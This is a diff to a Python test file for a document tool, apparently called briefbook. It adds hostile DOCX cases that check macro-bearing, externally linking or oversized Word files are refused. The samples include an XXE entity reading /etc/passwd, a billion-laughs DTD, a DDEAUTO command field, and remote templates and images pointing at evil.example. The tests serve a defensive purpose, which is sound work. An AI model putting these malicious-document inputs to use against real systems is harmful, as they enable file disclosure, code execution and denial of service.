@@ -1,18 +1,21 @@
 """Hostile kept documents: a redline is made of what a copied book's store has, and that is whatever it likes.
 
 `CASES` is read by the count of all hostile inputs: a kind, a name, what the kept DOCX of the edition before
-becomes, and what is told; nothing is told where it is compared as it stands.
+becomes, and what is told; nothing is told where it is compared as it stands. What would reach whoever opens a
+document (`REACHES_OUT`) is refused of either edition, and is not put in place either.
 """
 
 import shutil
 import sqlite3
 import time
 from collections.abc import Callable
+from functools import reduce
 from pathlib import Path
 
 import pytest
 
 from briefbook.store import Store
+from briefbook.zip_entries import MOST_TAGS
 from tests.books import make_book, run
 from tests.hand_edits import DOCUMENT, parts_of, zipped
 from tests.hostile.memory import grown
@@ -57,6 +60,71 @@ def instead(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
 DTD = b"<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'>]><w:document "
 ENTITY = b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><w:document "
 DEEP = b"<w:body>" + b"<w:sdt><w:sdtContent>" * 300
+TYPES, SETTINGS = "[Content_Types].xml", "word/settings.xml"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
+MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+MACROS = b"application/vnd.ms-word.document.macroEnabled.main+xml"
+BLIP = f'<w:p><w:r><w:t>gone</w:t></w:r><w:r><w:drawing xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:blip xmlns:r="{OFFICE}" r:link="evil"/></w:drawing></w:r></w:p>'
+FIELD = "<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"
+VML = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/x.png"/></v:shape></w:pict></w:r></w:p>'
+MERGE = b'<w:mailMerge><w:connectString w:val="evil"/></w:mailMerge></w:settings>'
+MANY = b"<w:body>" + b"".join(b'<w:p a="%d"/>' % (n * 7919) for n in range(MOST_TAGS))
+# 51 MB; a part of XML has 50 at most, and a remark 10.
+LONG = b"".join(b"<!--%s%d-->" % (b"x" * 500, n * 7919) for n in range(100_000))
+UTF_7 = b"<?xml version='1.0' encoding='UTF-7'?>"
+
+
+def type_of(ending: str, kind: str) -> Spoil:
+    new = f'<Default Extension="{ending}" ContentType="{kind}"/></Types>'
+    return part(TYPES, instead(b"</Types>", new.encode()))
+
+
+def added(name: str, data: bytes) -> Spoil:
+    return lambda docx: zipped({**parts_of(docx), name: data})
+
+
+def related(kind: str, target: str, mode: str = "External", of: str = RELATIONSHIPS) -> Spoil:
+    """A part, the document's unless another is named, refers to something."""
+    new = f'<Relationship Id="evil" Type="{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
+
+    def spoil(docx: bytes) -> bytes:
+        parts = parts_of(docx)
+        known = parts.get(
+            of,
+            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
+        )
+        return zipped({**parts, of: known.replace(b"</Relationships>", new.encode())})
+
+    return spoil
+
+
+def first(xml: str) -> Spoil:
+    return part(DOCUMENT, instead(b"<w:body>", b"<w:body>" + xml.encode()))
+
+
+def all_of(*spoils: Spoil) -> Spoil:
+    return lambda docx: reduce(lambda spoiled, spoil: spoil(spoiled), spoils, docx)
+
+
+PROJECT = all_of(
+    added("word/vbaProject.bin", b"evil"), type_of("bin", "application/vnd.ms-office.vbaProject")
+)
+REACHES_OUT: tuple[tuple[str, str, Spoil, str], ...] = (
+    ("programs that are kept", "macros", all_of(PROJECT, related(VBA, "vbaProject.bin", "Internal")), OLD),
+    ("programs that are kept", "a file whose type lets it have macros", part(TYPES, instead(MAIN, MACROS)), OLD),
+    ("programs that are kept", "macros called a picture", all_of(added("word/media/x.png", b"evil"), related(VBA, "media/x.png", "Internal")), OLD),
+    ("programs that are kept", "an OLE object", all_of(added("word/embeddings/x.bin", b"\xd0\xcf\x11\xe0"), type_of("bin", "application/vnd.openxmlformats-officedocument.oleObject"), related(f"{OFFICE}/oleObject", "embeddings/x.bin", "Internal")), OLD),
+    ("programs that are kept", "a part of no type", added("word/vbaProject.bin", b"evil"), OLD),
+    ("calls of a kept document", "a template from elsewhere", related(f"{OFFICE}/attachedTemplate", "http://evil.example/x.dotm", of="word/_rels/settings.xml.rels"), OLD),
+    ("calls of a kept document", "a picture on a share", all_of(related(f"{OFFICE}/image", "file://evil.example/x.png"), first(BLIP)), OLD),
+    ("calls of a kept document", "a link that opens a file", related(f"{OFFICE}/hyperlink", "file:///etc/passwd"), OLD),
+    ("calls of a kept document", "a part that lies elsewhere", related(f"{OFFICE}/header", "http://evil.example/x.xml", "Internal"), OLD),
+    ("calls of a kept document", "a page of elsewhere", related(f"{OFFICE}/aFChunk", "styles.xml", "Internal"), OLD),
+    ("words that fetch", "a field that runs a program", first(FIELD), OLD),
+    ("words that fetch", "a picture of VML", first(VML), OLD),
+    ("words that fetch", "a database that is asked", part(SETTINGS, instead(b"</w:settings>", MERGE)), OLD),
+)  # fmt: skip
 
 CASES: tuple[tuple[str, str, Spoil, str], ...] = (
     ("no DOCX", "nothing", lambda _: b"", OLD),
@@ -73,16 +141,20 @@ CASES: tuple[tuple[str, str, Spoil, str], ...] = (
     ("XML that is kept", "an entity that is a file", part(DOCUMENT, instead(b"<w:document ", ENTITY)), OLD),
     ("XML that is kept", "broken", part(DOCUMENT, lambda data: data[:-9]), OLD),
     ("XML that is kept", "deep", part(DOCUMENT, instead(b"<w:body>", DEEP)), OLD),
-    ("XML that is kept", "laughs in the styles", part(STYLES, instead(b"<w:styles ", DTD.replace(b"document ", b"styles "))), EITHER),
+    ("XML that is kept", "laughs in the styles", part(STYLES, instead(b"<w:styles ", DTD.replace(b"document ", b"styles "))), OLD),
+    ("amounts that are kept", "elements without end", part(DOCUMENT, instead(b"<w:body>", MANY)), OLD),
+    ("amounts that are kept", "more than is parsed", part(DOCUMENT, instead(b"<w:body>", b"<w:body>" + LONG)), OLD),
+    ("amounts that are kept", "in signs that are not counted", part(DOCUMENT, lambda data: UTF_7 + data[data.index(b"<w:document") :].decode().encode("utf-7")), OLD),
     ("parts that are kept", "no document", part(DOCUMENT, lambda _: None), OLD),
     ("parts that are kept", "no body", part(DOCUMENT, lambda data: data[: data.index(b"<w:body>")] + b"</w:document>"), EITHER),
-    ("parts that are kept", "no styles", part(STYLES, lambda _: None), EITHER),
+    ("parts that are kept", "no styles", part(STYLES, lambda _: None), OLD),
     ("parts that are kept", "no relationships", part(RELATIONSHIPS, lambda _: None), EITHER),
     ("parts that are kept", "a picture whose number is none", part(DOCUMENT, instead(b"<w:p>", b'<w:p><w:r><w:drawing><wp:docPr xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" id="evil"/></w:drawing></w:r>')), EITHER),
     ("what is kept besides", "words of a processing instruction", part(DOCUMENT, instead(b"<w:body>", b"<w:body><?evil x?>")), COMPARED),
     ("what is kept besides", "comments", part(DOCUMENT, instead(b"<w:body>", b"<w:body><!-- evil -->")), COMPARED),
     ("what is kept besides", "tables in tables", part(DOCUMENT, instead(b"<w:body>", b"<w:body>" + NESTED.encode())), COMPARED),
-    ("what is kept besides", "a part that nothing names", lambda docx: zipped({**parts_of(docx), "word/vbaProject.bin": b"evil"}), COMPARED),
+    ("what is kept besides", "a part that nothing names", added("word/evil.xml", b"<evil/>"), COMPARED),
+    *REACHES_OUT,
 )  # fmt: skip
 
 
@@ -134,11 +206,27 @@ def test_a_hostile_document_that_was_kept_is_told_with_its_edition(
 
 def test_the_later_edition_is_told_as_well_and_from_several_processes(book: Path) -> None:
     spoiled(book, lambda _: b"evil", edition=2)
+    (book / f"out/{SECOND}/council.docx").write_bytes(b"evil")  # came with the book as well
     for options in ((), ("--jobs", "2")):
         status, said = redlined(book, *options)
         assert status == 1
         assert f"error: {OLD.replace('edition 1', 'edition 2')} (put back" in said
         assert "Traceback" not in said
+
+
+@pytest.mark.parametrize("spoil", [pytest.param(case[2], id=case[1]) for case in REACHES_OUT])
+def test_what_reaches_out_is_not_put_in_place(spoil: Spoil, book: Path) -> None:
+    spoiled(book, spoil, edition=2)
+    docx = book / f"out/{SECOND}/council.docx"
+    before = docx.read_bytes()  # of the edition as it was: what is kept would stand beside it
+    for command in (("--redline",), (), ("--edition", "2")):
+        day = () if "--edition" in command else ("--as-of", SECOND)
+        result = run("-C", book, "build", "council", "--format", "docx", *day, *command)
+        assert result.exit_code == 1
+        assert "what is kept as council.docx is damaged, no DOCX as briefbook writes it" in result.stderr
+        assert [file.name for file in docx.parent.iterdir()] == ["council.docx"] * docx.exists()
+        assert not docx.exists() or docx.read_bytes() == before
+        docx.unlink(missing_ok=True)
 
 
 def test_no_more_of_a_kept_document_is_inflated_than_it_says(book: Path, tmp_path: Path) -> None:
